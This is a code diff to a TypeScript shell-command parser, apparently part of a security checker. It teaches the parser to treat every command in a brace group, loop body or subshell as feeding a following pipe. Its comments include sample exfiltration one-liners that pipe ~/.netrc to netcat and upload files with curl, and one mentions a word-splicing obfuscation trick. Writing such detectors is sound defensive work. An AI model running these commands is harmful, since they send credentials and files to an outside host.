@@ -41,6 +41,12 @@ export interface TextCommand {
   unit: number;
   /** The command whose output this one reads through `|`, if any. */
   pipedFrom: TextCommand | null;
+  /**
+   * When what is piped in is a group, a subshell or a compound command's body (`{ cat ~/.netrc;
+   * echo x; } | nc h 1`), every command of it: all of their output goes into the pipe, not only
+   * the last one's ({@link pipedFrom}). Undefined otherwise.
+   */
+  pipedGroup?: TextCommand[];
   /** A heredoc body or here-string fed to this command's stdin. */
   stdinText: string | null;
   /**
@@ -64,6 +70,13 @@ interface PendingRedirect {
 
 /** Reserved words that may stand where a program would and are not programs. */
 const RESERVED = new Set(['{', '}', '!', 'if', 'then', 'else', 'elif', 'fi', 'do', 'done', 'while', 'until', 'esac', 'coproc']);
+
+/**
+ * Reserved words that open a group or a compound command's body, with the word that closes it:
+ * what the commands between print goes, all of it, wherever the closing word's command sends its
+ * output (`{ …; } | nc h 1`, `for f in …; do cat "$f"; done | curl -T - URL`).
+ */
+const GROUP_CLOSERS: Readonly<Record<string, string>> = { '{': '}', do: 'done', if: 'fi' };
 
 /** Substitutions known to expand to nothing, used to splice a word together (`r$()m`). */
 const EMPTY_SUBSTITUTIONS = new Set(['', 'true', ':', 'false', 'echo', 'echo -n', "printf ''", 'printf ""']);
@@ -165,6 +178,7 @@ function newCommand(pipedFrom: TextCommand | null, commandUnit: number): TextCom
     redirects: NO_REDIRECTS,
     unit: commandUnit,
     pipedFrom,
+    pipedGroup: undefined,
     stdinText: null,
     folded: undefined,
     peeled: undefined,
@@ -181,6 +195,14 @@ class TextCommandReader {
   private readonly commands: TextCommand[] = [];
   private readonly pendingHeredocs: Array<{ command: TextCommand; delimiter: string; stripTabs: boolean }> = [];
   private unit = 0;
+  /**
+   * Open groups and compound bodies ({@link GROUP_CLOSERS}) and subshells: where their commands
+   * start in {@link commands}, the word that closes them (`)` for a subshell), and the frame depth
+   * they were opened at. A group at the top level keeps its commands in one unit.
+   */
+  private readonly groups: Array<{ start: number; closer: string; depth: number }> = [];
+  /** The commands of a group or subshell just closed: a `|` next pipes all of them. */
+  private closedGroup: TextCommand[] | null = null;
   private readonly n: number;
 
   // The innermost open frame.
@@ -269,7 +291,10 @@ class TextCommandReader {
       return;
     }
     if (atCommandPosition && !this.wordQuoted && !this.wordOpaque) {
-      if (RESERVED.has(this.wordValue)) return;
+      if (RESERVED.has(this.wordValue)) {
+        this.groupWord(this.wordValue);
+        return;
+      }
       if (this.wordValue === 'function') {
         this.expectFunctionName = true;
         return;
@@ -289,15 +314,43 @@ class TextCommandReader {
     else argv.push(word);
   }
 
+  /** A reserved word at a command's start that opens or closes a group ({@link GROUP_CLOSERS}). */
+  private groupWord(word: string): void {
+    const closer = GROUP_CLOSERS[word];
+    if (closer !== undefined) {
+      this.groups.push({ start: this.commands.length, closer, depth: this.depth });
+      return;
+    }
+    const open = this.groups[this.groups.length - 1];
+    if (open !== undefined && open.closer === word && open.depth === this.depth) this.closeGroup();
+  }
+
+  /** The innermost open group or subshell ends: its commands are what a `|` after it pipes. */
+  private closeGroup(): void {
+    const { start } = this.groups.pop()!;
+    this.closedGroup = start < this.commands.length ? this.commands.slice(start) : null;
+  }
+
+  /** Whether a group opened at the top level is still open: its commands stay in one unit. */
+  private inTopLevelGroup(): boolean {
+    return this.groups.length > 0 && this.groups[0]!.depth === 0 && this.groups[0]!.closer !== ')';
+  }
+
   /** `closing`: the frame ends here, so no next command is started in it. */
   private endCommand(end: number, connector: string | null, closing = false): void {
     this.endWord(end);
     const ended = this.command;
     if (ended.argv.length > 0 || ended.redirects.length > 0 || ended.stdinText !== null || ended.assignments !== undefined) this.commands.push(ended);
+    const group = this.closedGroup;
+    this.closedGroup = null;
     if (closing) return;
-    if (this.depth === 0 && connector !== null && connector !== '|' && connector !== '|&') this.unit++;
+    if (this.depth === 0 && connector !== null && connector !== '|' && connector !== '|&' && !this.inTopLevelGroup()) this.unit++;
     const piped = connector === '|' || connector === '|&';
-    this.command = newCommand(piped ? ended : null, this.unit);
+    // After a group (`} |`, `) |`, `done |`) the pipe reads every command of it: the last one as
+    // the one it is piped from, all of them as its group.
+    const fromGroup = piped && group !== null && ended.argv.length === 0;
+    this.command = newCommand(piped ? (fromGroup ? group[group.length - 1]! : ended) : null, this.unit);
+    if (fromGroup) this.command.pipedGroup = group;
     this.pendingRedirect = null;
   }
 
@@ -373,6 +426,10 @@ class TextCommandReader {
     const closedSubstitution = this.substitution;
     const closedOpenedAt = this.openedAt;
     this.popFrame();
+    // Groups left open inside the frame end with it; a subshell's own entry is then the innermost.
+    while (this.groups.length > 0 && this.groups[this.groups.length - 1]!.depth > this.depth) this.groups.pop();
+    const open = this.groups[this.groups.length - 1];
+    if (!closedSubstitution && open !== undefined && open.closer === ')' && open.depth === this.depth) this.closeGroup();
     // Only a short substitution can be one of the known-empty ones; do not copy long ones.
     const inner = closedSubstitution && at - closedOpenedAt <= 16 ? this.text.slice(closedOpenedAt, at).trim() : null;
     if (closedSubstitution && (inner === null || !EMPTY_SUBSTITUTIONS.has(inner))) this.markOpaque(at, 'variable');
@@ -621,6 +678,7 @@ class TextCommandReader {
             i++;
           } else if (atCommandStart) {
             // A subshell (or arithmetic `((`): its commands are read like any others.
+            this.groups.push({ start: this.commands.length, closer: ')', depth: this.depth });
             this.pushFrame(CLOSES_WITH_PARENTHESIS, i + 1, false);
             i++;
           } else if (text[i + 1] === ')') {
